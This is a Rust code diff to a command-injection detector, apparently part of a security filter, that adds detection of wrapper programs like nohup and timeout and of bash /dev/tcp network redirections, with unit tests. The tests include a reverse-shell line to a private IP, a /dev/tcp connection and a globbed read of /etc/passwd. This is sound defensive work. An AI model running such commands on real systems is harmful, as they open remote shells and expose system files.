@@ -61,6 +61,7 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
             || words::strong(first)
             || words::weak(first)
             || words::bin_path(first)
+            || words::wrapper(first)
             || first.contains(&b'['))
         {
             return None;
@@ -69,7 +70,19 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
     if let Some(m) = windows_or_ssi(v) {
         return Some(m);
     }
+    // Bash's network redirections (`exec 5<>/dev/tcp/10.0.0.1/80`, `>& /dev/tcp/...`):
+    // a reverse shell whatever the program.
+    for dev in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
+        if memchr::memmem::find(v, dev).is_some() {
+            return Some(CmdiMatch {
+                command: String::from_utf8_lossy(dev).into_owned(),
+            });
+        }
+    }
     let toks = tokens(v);
+    if let Some(m) = wrapped(&toks) {
+        return Some(m);
+    }
     // The value may itself be the start of the command (`cat /etc/passwd`), or follow
     // an operator, or sit inside backticks / `$( )`.
     let mut at_start = true;
@@ -88,7 +101,8 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
                         });
                     }
                 } else if at_start
-                    && ((words::strong(&w.text) && toks.get(i + 1).is_some_and(shellish_arg))
+                    && (((words::strong(&w.text) || words::bin_path(&w.text))
+                        && toks.get(i + 1).is_some_and(shellish_arg))
                         || ((words::strong(&w.text) || words::bin_path(&w.text))
                             && matches!(toks.get(i + 1), Some(Tok::Op(Op::Seq { .. }))))
                         || (words::weak(&w.text) && ends_command(&toks[i + 1..])))
@@ -101,6 +115,35 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
                 }
                 at_start = false;
             }
+        }
+    }
+    None
+}
+
+/// A value that is a whole command line run through a wrapper: `nohup sh -c whoami`,
+/// `cpulimit -l 100 -f whoami`, `time sh -c whoami` (see [`words::wrapper`]).
+fn wrapped(toks: &[Tok]) -> Option<CmdiMatch> {
+    let Some(Tok::Word(first)) = toks.first() else {
+        return None;
+    };
+    let english = words::english_wrapper(&first.text);
+    if !(english || words::wrapper(&first.text)) {
+        return None;
+    }
+    // The program: within the next four words, past options, numbers and paths.
+    for (j, t) in toks.iter().enumerate().skip(1).take(4) {
+        let Tok::Word(w) = t else { return None };
+        let program = words::strong(&w.text) || words::bin_path(&w.text);
+        if program && (!english || toks.get(j + 1).is_some_and(shellish_arg)) {
+            return Some(CmdiMatch {
+                command: String::from_utf8_lossy(&w.text).into_owned(),
+            });
+        }
+        let skippable = w.text.first() == Some(&b'-')
+            || w.text.first() == Some(&b'/')
+            || w.text.iter().all(u8::is_ascii_digit);
+        if english || !skippable {
+            return None;
         }
     }
     None
@@ -389,6 +432,33 @@ mod tests {
             "date; see the notes below",
         ] {
             assert_eq!(detect(v.as_bytes()), None, "{v}");
+        }
+    }
+
+    /// Command lines run through a wrapper, and bash's network redirections; prose
+    /// that starts with an English wrapper stays prose.
+    #[test]
+    fn wrappers_and_dev_tcp() {
+        for v in [
+            "nohup sh -c whoami",
+            "strace sh -c whoami",
+            "cpulimit -l 100 -f whoami",
+            "flock -u / whoami",
+            "timeout 5 ping 10.0.0.1",
+            "time sh -c whoami",
+            "exec 5<>/dev/tcp/8.8.8.8/80",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            // a program's absolute path with a path argument (a glob in its name)
+            "/bin/ca? /et*/passwd",
+        ] {
+            assert!(detect(v.as_bytes()).is_some(), "{v:?}");
+        }
+        for v in [
+            "nice cat pictures",
+            "time flies like an arrow",
+            "watch dir changes",
+        ] {
+            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
         }
     }
 
